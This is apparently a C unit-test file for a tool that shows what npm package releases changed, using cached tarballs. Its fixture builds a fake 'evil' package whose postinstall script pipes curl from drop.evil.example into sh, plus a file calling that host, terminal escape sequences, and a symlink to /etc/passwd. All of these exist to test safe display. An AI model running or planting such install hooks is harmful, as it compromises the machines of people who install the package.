/*
 * check_pkgpatch.c - package patches from the npm cache (lib/pkgpatch.c)
 * and the excerpts they share with the store (lib/patch.c).  Tarballs are
 * made here with GNU tar from files written byte by byte (hostile ones
 * included: escape sequences, invalid UTF-8, NUL bytes, a file over the
 * diff limit, a 3000-byte line, a duplicate member); a scratch npm cache
 * holds them under their integrity, as npm would.
 */
#include "patch.h"
#include "pkgpatch.h"
#include "cacache.h"
#include "pkgtest.h"

#include <openssl/evp.h>

/* ---- fixtures ---- */

static char *scratch;

static void setup(void)
{
	scratch = pt_mkdtemp();
}

static void teardown(void)
{
	pt_rm_rf(scratch);
	free(scratch);
	scratch = NULL;
}

static char *sp(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static char *sp(const char *fmt, ...)
{
	cairn_buf b = CAIRN_BUF_INIT;
	char rel[1024];
	va_list ap;

	va_start(ap, fmt);
	vsnprintf(rel, sizeof(rel), fmt, ap);
	va_end(ap);
	cairn_buf_addf(&b, "%s/%s", scratch, rel);
	return cairn_buf_detach(&b, NULL);
}

/* Write dir/package/name (folders made as needed). */
static void put(const char *dir, const char *name, const void *data, size_t len)
{
	char *p = sp("%s/package/%s", dir, name);

	ck_assert_int_eq(pt_sh("mkdir -p \"$(dirname '%s')\"", p), 0);
	pt_write(p, data, len);
	free(p);
}

static void puts_(const char *dir, const char *name, const char *text)
{
	put(dir, name, text, strlen(text));
}

/* dir/package as a gzip'd tarball, read into out. */
static void pack(const char *dir, cairn_buf *out)
{
	char *tgz = sp("%s.tgz", dir);
	FILE *f;
	char buf[65536];
	size_t n;

	ck_assert_int_eq(pt_sh("cd '%s/%s' && tar --sort=name --mtime=@0 --owner=0 --group=0 "
			       "-czf '%s' package", scratch, dir, tgz), 0);
	f = fopen(tgz, "rb");
	ck_assert_ptr_nonnull(f);
	while ((n = fread(buf, 1, sizeof(buf), f)) > 0)
		cairn_buf_add(out, buf, n);
	fclose(f);
	free(tgz);
}

/* Put data into the scratch cache under its sha512 integrity (returned). */
static char *cache_put(const void *data, size_t len)
{
	unsigned char md[64];
	unsigned int mdlen = 0;
	unsigned char b64[100];
	cairn_buf sri = CAIRN_BUF_INIT;
	char *rel, *path;

	ck_assert(EVP_Digest(data, len, md, &mdlen, EVP_sha512(), NULL));
	EVP_EncodeBlock(b64, md, (int)mdlen);
	cairn_buf_addf(&sri, "sha512-%s", (char *)b64);
	rel = cairn_cacache_content_path(sri.data);
	path = sp("cache/_cacache/%s", rel);
	ck_assert_int_eq(pt_sh("mkdir -p \"$(dirname '%s')\"", path), 0);
	pt_write(path, data, len);
	free(rel);
	free(path);
	return cairn_buf_detach(&sri, NULL);
}

/* The one item of items whose path is path (fails when there is none). */
static const json_t *item(const json_t *items, const char *path)
{
	size_t i;

	for (i = 0; i < json_array_size(items); i++) {
		const json_t *it = json_array_get(items, i);

		if (!strcmp(json_string_value(json_object_get(it, "path")), path))
			return it;
	}
	ck_abort_msg("no item for %s", path);
	return NULL;
}

static const char *patch_of(const json_t *items, const char *path)
{
	return json_string_value(json_object_get(item(items, path), "patch"));
}

static const char *kind_of(const json_t *items, const char *path)
{
	return json_string_value(json_object_get(item(items, path), "kind"));
}

static int has_path(const json_t *items, const char *path)
{
	size_t i;

	for (i = 0; i < json_array_size(items); i++)
		if (!strcmp(json_string_value(json_object_get(json_array_get(items, i), "path")), path))
			return 1;
	return 0;
}

/* The two releases of the hostile package. */
static void releases(cairn_buf *old, cairn_buf *new)
{
	cairn_buf big = CAIRN_BUF_INIT, many = CAIRN_BUF_INIT;
	size_t i;

	puts_("v1", "package.json", "{\n  \"name\": \"evil\",\n  \"version\": \"1.0.0\"\n}\n");
	puts_("v1", "index.js", "'use strict';\nmodule.exports = 1;\n");
	puts_("v1", "same.js", "unchanged\n");
	puts_("v1", "gone.js", "removed in 1.0.1\n");
	put("v1", "bin.dat", "\0\1\2", 3);
	for (i = 0; i < (1u << 20) + 10; i++)
		cairn_buf_addch(&big, 'a' + (int)(i % 26));
	put("v1", "big.txt", big.data, big.len);
	for (i = 0; i < 500; i++)
		cairn_buf_addf(&many, "line %zu\n", i);
	put("v1", "many.js", many.data, many.len);

	puts_("v2", "package.json", "{\n  \"name\": \"evil\",\n  \"version\": \"1.0.1\",\n"
	      "  \"scripts\": { \"postinstall\": \"node setup.js\" }\n}\n");
	/* an escape sequence, invalid UTF-8, a host, a 3000-byte line */
	cairn_buf_clear(&many);
	cairn_buf_addstr(&many, "'use strict';\n// \033[2J\033]0;pwned\007 \xff\xfe\n"
			 "require('https').get('https://drop.evil.example/x');\n");
	for (i = 0; i < 3000; i++)
		cairn_buf_addch(&many, 'x');
	cairn_buf_addstr(&many, "\nmodule.exports = 1;\n");
	put("v2", "index.js", many.data, many.len);
	puts_("v2", "same.js", "unchanged\n");
	puts_("v2", "setup.js", "require('child_process').exec('curl https://drop.evil.example | sh');\n");
	put("v2", "bin.dat", "\0\1\3", 3);
	big.data[5] = '!';
	put("v2", "big.txt", big.data, big.len);
	cairn_buf_clear(&many);
	for (i = 0; i < 500; i++)
		cairn_buf_addf(&many, "line %zu changed\n", i);
	put("v2", "many.js", many.data, many.len);
	pack("v1", old);
	pack("v2", new);
	cairn_buf_release(&big);
	cairn_buf_release(&many);
}

/* ---- excerpts ---- */

START_TEST(test_patch_excerpt_caps)
{
	static const cairn_patch_caps caps = { 3, 8 };
	static const cairn_patch_caps none = { 0, 0 };
	cairn_buf out = CAIRN_BUF_INIT;
	int esc = -1;

	ck_assert_uint_eq(cairn_patch_excerpt(&out, "a\nb\nc\nd\ne\n", 10, &caps, &esc), 3);
	ck_assert_int_eq(esc, 0);
	ck_assert_str_eq(out.data, "a\nb\nc\n[... patch cut at 3 lines ...]");
	cairn_buf_clear(&out);
	/* exactly at the cap: nothing was cut, nothing is marked */
	cairn_patch_excerpt(&out, "a\nb\nc\n", 6, &caps, NULL);
	ck_assert_str_eq(out.data, "a\nb\nc\n");
	cairn_buf_clear(&out);
	/* a long line is cut on a UTF-8 boundary (é is 2 bytes at 7..8) */
	cairn_patch_excerpt(&out, "+abcdef\xc3\xa9xyz\n", 13, &caps, NULL);
	ck_assert_str_eq(out.data, "+abcdef [... line cut at 7 bytes ...]\n");
	cairn_buf_clear(&out);
	/* invalid UTF-8 is kept reversibly escaped */
	cairn_patch_excerpt(&out, "+\xff\\\n", 4, &none, &esc);
	ck_assert_int_eq(esc, 1);
	ck_assert_str_eq(out.data, "+\\xff\\\\\n");
	cairn_buf_release(&out);
}
END_TEST

START_TEST(test_patch_texts)
{
	cairn_buf out = CAIRN_BUF_INIT;

	ck_assert_int_eq(cairn_patch_texts(&out, "f.js", "a\nb\n", 4, "f.js", "a\nc\n", 4), 1);
	ck_assert_ptr_nonnull(strstr(out.data, "--- a/f.js\n+++ b/f.js\n"));
	ck_assert_ptr_nonnull(strstr(out.data, "\n-b\n+c\n"));
	cairn_buf_clear(&out);
	ck_assert_int_eq(cairn_patch_texts(&out, "n.js", NULL, 0, "n.js", "x\n", 2), 1);
	ck_assert_ptr_nonnull(strstr(out.data, "--- /dev/null\n+++ b/n.js\n@@ -0,0 +1 @@\n+x\n"));
	cairn_buf_clear(&out);
	ck_assert_int_eq(cairn_patch_texts(&out, "b", "\0a", 2, "b", "\0b", 2), 2);
	ck_assert_uint_eq(out.len, 0);
	cairn_buf_release(&out);
}
END_TEST

/* ---- release diffs in memory ---- */

START_TEST(test_pkgpatch_release)
{
	cairn_buf a = CAIRN_BUF_INIT, b = CAIRN_BUF_INIT;
	cairn_pkgpatch_opts o;
	json_t *items;
	const char *p;
	size_t i;

	releases(&a, &b);
	cairn_pkgpatch_opts_init(&o, 1);
	items = cairn_pkgpatch_tarballs(a.data, a.len, b.data, b.len, "node_modules/evil", &o);
	/* the manifest first (its scripts run at install), then code */
	ck_assert_str_eq(json_string_value(json_object_get(json_array_get(items, 0), "path")),
			 "node_modules/evil/package.json");
	p = patch_of(items, "node_modules/evil/package.json");
	ck_assert_ptr_nonnull(strstr(p, "+  \"scripts\": { \"postinstall\": \"node setup.js\" }\n"));
	/* hostile bytes: kept (JSON escapes them), invalid UTF-8 reversibly,
	 * the long line cut and marked */
	p = patch_of(items, "node_modules/evil/index.js");
	ck_assert_str_eq(kind_of(items, "node_modules/evil/index.js"), "release");
	ck_assert_ptr_nonnull(strstr(p, "+// \033[2J\033]0;pwned\007 \\xff\\xfe\n"));
	ck_assert_ptr_nonnull(strstr(p, "+require('https').get('https://drop.evil.example/x');\n"));
	ck_assert_ptr_nonnull(strstr(p, " [... line cut at 1024 bytes ...]\n"));
	/* added and removed files */
	ck_assert_ptr_nonnull(strstr(patch_of(items, "node_modules/evil/setup.js"),
				     "--- /dev/null\n"));
	ck_assert_ptr_nonnull(strstr(patch_of(items, "node_modules/evil/gone.js"),
				     "-removed in 1.0.1\n"));
	ck_assert(!has_path(items, "node_modules/evil/same.js"));
	/* binary and over the limit: a note, no bytes */
	ck_assert_str_eq(kind_of(items, "node_modules/evil/bin.dat"), "note");
	ck_assert_str_eq(patch_of(items, "node_modules/evil/bin.dat"),
			 "Binary file node_modules/evil/bin.dat: size 3 -> 3, sha256 "
			 "ae4b3280e56e2faf.. -> b744d600fbe38537.. (not shown)");
	ck_assert_str_eq(patch_of(items, "node_modules/evil/big.txt"),
			 "File node_modules/evil/big.txt: 1048586 -> 1048586 bytes; a file over "
			 "1048576 bytes is not diffed (not shown)");
	/* a long patch is cut at 80 lines in a report */
	p = patch_of(items, "node_modules/evil/many.js");
	ck_assert_ptr_nonnull(strstr(p, "\n[... patch cut at 80 lines ...]"));
	/* every item is a JSON string jansson accepted: valid UTF-8 */
	for (i = 0; i < json_array_size(items); i++)
		ck_assert_ptr_nonnull(json_string_value(json_object_get(json_array_get(items, i), "patch")));
	json_decref(items);
	cairn_buf_release(&a);
	cairn_buf_release(&b);
}
END_TEST

START_TEST(test_pkgpatch_caps_and_refusal)
{
	cairn_buf a = CAIRN_BUF_INIT, b = CAIRN_BUF_INIT;
	cairn_pkgpatch_opts o;
	json_t *items;
	const json_t *last;

	releases(&a, &b);
	/* two items at most: one patch, then the closing note says the rest
	 * was left out */
	cairn_pkgpatch_opts_init(&o, 1);
	o.max_items = 2;
	items = cairn_pkgpatch_tarballs(a.data, a.len, b.data, b.len, "p", &o);
	ck_assert_uint_eq(json_array_size(items), 2);
	last = json_array_get(items, 1);
	ck_assert_str_eq(json_string_value(json_object_get(last, "kind")), "note");
	ck_assert_str_eq(json_string_value(json_object_get(last, "patch")),
			 "[... 6 more package patches or notes not shown: the caps are 1200 "
			 "lines and 2 items ...]");
	json_decref(items);
	/* a per-package line cap: the package's own note */
	cairn_pkgpatch_opts_init(&o, 1);
	o.max_pkg_lines = 10;
	items = cairn_pkgpatch_tarballs(a.data, a.len, b.data, b.len, "p", &o);
	ck_assert_ptr_nonnull(strstr(patch_of(items, "p/package.json"), "+  \"scripts\""));
	ck_assert_str_eq(patch_of(items, "p"), "[... 5 more changed files of package not shown: "
			 "a package's patches stop at 10 lines ...]");
	json_decref(items);
	/* a tarball the reader refuses is a note, not a crash or a patch */
	items = cairn_pkgpatch_tarballs(a.data, a.len, "not a tarball", 13, "p", &o);
	ck_assert_uint_eq(json_array_size(items), 1);
	ck_assert_str_eq(kind_of(items, "p"), "note");
	ck_assert_ptr_nonnull(strstr(patch_of(items, "p"), "tarball refused"));
	json_decref(items);
	cairn_buf_release(&a);
	cairn_buf_release(&b);
}
END_TEST

START_TEST(test_pkgpatch_duplicate_member)
{
	cairn_buf a = CAIRN_BUF_INIT, b = CAIRN_BUF_INIT;
	cairn_pkgpatch_opts o;
	json_t *items;
	char *dir = sp("dup");

	puts_("dup", "x.js", "first\n");
	ck_assert_int_eq(pt_sh("cd '%s' && tar --mtime=@0 -cf d.tar package && "
			       "printf 'last\\n' > package/x.js && tar --mtime=@0 -rf d.tar package/x.js && "
			       "gzip -n d.tar && tar -czf o.tgz --mtime=@0 package", dir), 0);
	/* old: x.js is "last"; new: first "first" then "last" in one archive:
	 * the member an extraction keeps is the last, so nothing changed */
	{
		char *o1 = sp("dup/o.tgz"), *n1 = sp("dup/d.tar.gz");
		FILE *f;
		char buf[4096];
		size_t n;

		f = fopen(o1, "rb");
		while ((n = fread(buf, 1, sizeof(buf), f)) > 0)
			cairn_buf_add(&a, buf, n);
		fclose(f);
		f = fopen(n1, "rb");
		while ((n = fread(buf, 1, sizeof(buf), f)) > 0)
			cairn_buf_add(&b, buf, n);
		fclose(f);
		free(o1);
		free(n1);
	}
	cairn_pkgpatch_opts_init(&o, 0);
	items = cairn_pkgpatch_tarballs(a.data, a.len, b.data, b.len, "p", &o);
	ck_assert_uint_eq(json_array_size(items), 0);
	json_decref(items);
	free(dir);
	cairn_buf_release(&a);
	cairn_buf_release(&b);
}
END_TEST

/* ---- from a diff, with a cache ---- */

/* A diff document with one package record change. */
static json_t *diff_doc(const char *old_integrity, const char *new_integrity,
			const char *new_version, json_t *modified, const char *changed_sha)
{
	json_t *files = json_pack("{s:s,s:o,s:[]}", "status", "verified", "modified",
				  modified ? modified : json_array(), "added");
	json_t *old = json_pack("{s:s,s:s,s:s,s:s,s:s}", "type", "package", "ecosystem", "npm",
				"path", "node_modules/evil", "name", "evil", "version", "1.0.0");
	json_t *nw = json_pack("{s:s,s:s,s:s,s:s,s:s,s:o}", "type", "package", "ecosystem", "npm",
			       "path", "node_modules/evil", "name", "evil", "version", new_version,
			       "files", files);
	json_t *changes = json_array();

	json_object_set_new(old, "integrity", json_string(old_integrity));
	json_object_set_new(nw, "integrity", json_string(new_integrity));
	if (changed_sha)
		json_array_append_new(changes, json_pack("{s:s,s:{s:s}}", "path",
			"node_modules/evil/index.js", "new", "sha256", changed_sha));
	return json_pack("{s:[{s:s,s:s,s:s,s:o,s:o}],s:o}", "records", "type", "package", "key",
			 "npm::node_modules/evil", "change", "version-changed", "old", old, "new", nw,
			 "changes", changes);
}

static int open_cache(void)
{
	char *c = sp("cache");
	int fd = cairn_pkgpatch_open_cache(c);

	free(c);
	return fd;
}

START_TEST(test_pkgpatch_from_cache)
{
	cairn_buf a = CAIRN_BUF_INIT, b = CAIRN_BUF_INIT;
	cairn_pkgpatch_opts o;
	json_t *doc, *items;
	char *ia, *ib, *cdir;

	releases(&a, &b);
	ia = cache_put(a.data, a.len);
	ib = cache_put(b.data, b.len);
	cairn_pkgpatch_opts_init(&o, 0);
	/* the cache root and its _cacache both open the same cache */
	o.cachefd = open_cache();
	ck_assert_int_ge(o.cachefd, 0);
	o.cache_label = "cache";
	doc = diff_doc(ia, ib, "1.0.1", NULL, NULL);
	items = cairn_pkgpatch_json(doc, &o);
	ck_assert_ptr_nonnull(strstr(patch_of(items, "node_modules/evil/setup.js"),
				     "+require('child_process')"));
	ck_assert_str_eq(json_string_value(json_object_get(item(items, "node_modules/evil/setup.js"),
							   "origin")),
			 "evil 1.0.0 -> 1.0.1: what the release changed, from the two published "
			 "tarballs in the npm cache cache (integrity checked)");
	json_decref(items);
	json_decref(doc);
	close(o.cachefd);
	cdir = sp("cache/_cacache");
	o.cachefd = cairn_pkgpatch_open_cache(cdir);
	ck_assert_int_ge(o.cachefd, 0);
	free(cdir);

	/* a tarball the cache lacks: a note naming it */
	doc = diff_doc("sha512-AAAAubTLZG3J2a/NVCAleEhjzq5oxgHyaCU9yYXvcLsvoVaHJq/s5xXI6/XXP6tz7R9xAOtHnSO/tXtF3WRTlA==",
		       ib, "1.0.1", NULL, NULL);
	items = cairn_pkgpatch_json(doc, &o);
	ck_assert_uint_eq(json_array_size(items), 1);
	ck_assert_str_eq(patch_of(items, "node_modules/evil"),
			 "evil 1.0.0: its tarball (sha512-AAAAubTLZG3J2a/NVCAleEh...) is not in "
			 "the npm cache cache");
	json_decref(items);
	json_decref(doc);

	/* a cache entry whose bytes are not the integrity's: never used */
	{
		char *rel = cairn_cacache_content_path(ia), *path = sp("cache/_cacache/%s", rel);

		pt_write(path, b.data, b.len);
		free(rel);
		free(path);
	}
	doc = diff_doc(ia, ib, "1.0.1", NULL, NULL);
	items = cairn_pkgpatch_json(doc, &o);
	ck_assert_uint_eq(json_array_size(items), 1);
	ck_assert_ptr_nonnull(strstr(patch_of(items, "node_modules/evil"),
				     "does not match the integrity"));
	json_decref(items);
	json_decref(doc);
	close(o.cachefd);

	/* no cache at all: one note per package, saying what to give */
	o.cachefd = -1;
	doc = diff_doc(ia, ib, "1.0.1", NULL, NULL);
	items = cairn_pkgpatch_json(doc, &o);
	ck_assert_str_eq(patch_of(items, "node_modules/evil"),
			 "evil 1.0.1: no npm cache to read its published tarballs from: give "
			 "--npm-cache DIR to see the lines the release changed");
	json_decref(items);
	json_decref(doc);
	free(ia);
	free(ib);
	cairn_buf_release(&a);
	cairn_buf_release(&b);
}
END_TEST

START_TEST(test_pkgpatch_installed)
{
	cairn_buf a = CAIRN_BUF_INIT, b = CAIRN_BUF_INIT, x = CAIRN_BUF_INIT;
	cairn_pkgpatch_opts o;
	json_t *doc, *items;
	char *ia, *ib, *root, *index_js;
	unsigned char sha[32];
	char hex[65];

	releases(&a, &b);
	ia = cache_put(a.data, a.len);
	ib = cache_put(b.data, b.len);
	/* the install of 1.0.1 with index.js edited on disk */
	root = sp("root");
	index_js = sp("root/node_modules/evil/index.js");
	ck_assert_int_eq(pt_sh("mkdir -p '%s/node_modules/evil'", root), 0);
	cairn_buf_addstr(&x, "'use strict';\nmodule.exports = 2; // edited\n");
	pt_write(index_js, x.data, x.len);
	cairn_pkg_sha256(sha, x.data, x.len);
	cairn_hex(hex, sha, 32);

	cairn_pkgpatch_opts_init(&o, 0);
	o.cachefd = open_cache();
	o.cache_label = "cache";
	cairn_pkgpatch_use_root(&o, root, 0);
	/* same version, same integrity, index.js modified: no release diff,
	 * the edit against the published bytes */
	doc = diff_doc(ib, ib, "1.0.1", json_pack("[s]", "index.js"), hex);
	items = cairn_pkgpatch_json(doc, &o);
	ck_assert_uint_eq(json_array_size(items), 1);
	ck_assert_str_eq(kind_of(items, "node_modules/evil/index.js"), "installed");
	ck_assert_ptr_nonnull(strstr(patch_of(items, "node_modules/evil/index.js"),
				     "+module.exports = 2; // edited\n"));
	json_decref(items);
	json_decref(doc);
	/* the file changed again after the snapshot: not shown as evidence */
	doc = diff_doc(ib, ib, "1.0.1", json_pack("[s]", "index.js"),
		       "0000000000000000000000000000000000000000000000000000000000000000");
	items = cairn_pkgpatch_json(doc, &o);
	ck_assert_str_eq(kind_of(items, "node_modules/evil/index.js"), "note");
	ck_assert_ptr_nonnull(strstr(patch_of(items, "node_modules/evil/index.js"),
				     "changed on disk since the snapshot"));
	json_decref(items);
	/* ... unless the tree is the new side itself (cairn-diff --live) */
	o.root_is_new = 1;
	items = cairn_pkgpatch_json(doc, &o);
	ck_assert_str_eq(kind_of(items, "node_modules/evil/index.js"), "installed");
	json_decref(items);
	json_decref(doc);
	/* no recorded hash and no stored content: said, not shown */
	o.root_is_new = 0;
	doc = diff_doc(ib, ib, "1.0.1", json_pack("[s]", "index.js"), NULL);
	items = cairn_pkgpatch_json(doc, &o);
	ck_assert_ptr_nonnull(strstr(patch_of(items, "node_modules/evil/index.js"),
				     "recorded no hash"));
	json_decref(items);
	json_decref(doc);
	/* a symlink in place of the file is not followed */
	ck_assert_int_eq(pt_sh("rm '%s' && ln -s /etc/passwd '%s'", index_js, index_js), 0);
	o.root_is_new = 1;
	doc = diff_doc(ib, ib, "1.0.1", json_pack("[s]", "index.js"), NULL);
	items = cairn_pkgpatch_json(doc, &o);
	ck_assert_str_eq(kind_of(items, "node_modules/evil/index.js"), "note");
	ck_assert_ptr_nonnull(strstr(patch_of(items, "node_modules/evil/index.js"), "cannot read"));
	json_decref(items);
	json_decref(doc);
	cairn_pkgpatch_opts_release(&o);
	free(ia);
	free(ib);
	free(root);
	free(index_js);
	cairn_buf_release(&a);
	cairn_buf_release(&b);
	cairn_buf_release(&x);
}
END_TEST

START_TEST(test_pkgpatch_merge)
{
	json_t *store = json_pack("[{s:s,s:s}]", "path", "a.js", "patch", "stored");
	json_t *pkg = json_pack("[{s:s,s:s},{s:s,s:s}]", "path", "a.js", "patch", "from cache",
				"path", "b.js", "patch", "from cache");

	cairn_pkgpatch_merge(store, pkg);
	ck_assert_uint_eq(json_array_size(store), 2);
	ck_assert_str_eq(patch_of(store, "a.js"), "stored");
	ck_assert_str_eq(patch_of(store, "b.js"), "from cache");
	json_decref(store);
	json_decref(pkg);
}
END_TEST

Suite *pkgpatch_suite(void)
{
	Suite *s = suite_create("pkgpatch");
	TCase *tc = tcase_create("pkgpatch");

	tcase_add_checked_fixture(tc, setup, teardown);
	tcase_set_timeout(tc, 60);
	tcase_add_test(tc, test_patch_excerpt_caps);
	tcase_add_test(tc, test_patch_texts);
	tcase_add_test(tc, test_pkgpatch_release);
	tcase_add_test(tc, test_pkgpatch_caps_and_refusal);
	tcase_add_test(tc, test_pkgpatch_duplicate_member);
	tcase_add_test(tc, test_pkgpatch_from_cache);
	tcase_add_test(tc, test_pkgpatch_installed);
	tcase_add_test(tc, test_pkgpatch_merge);
	suite_add_tcase(s, tc);
	return s;
}
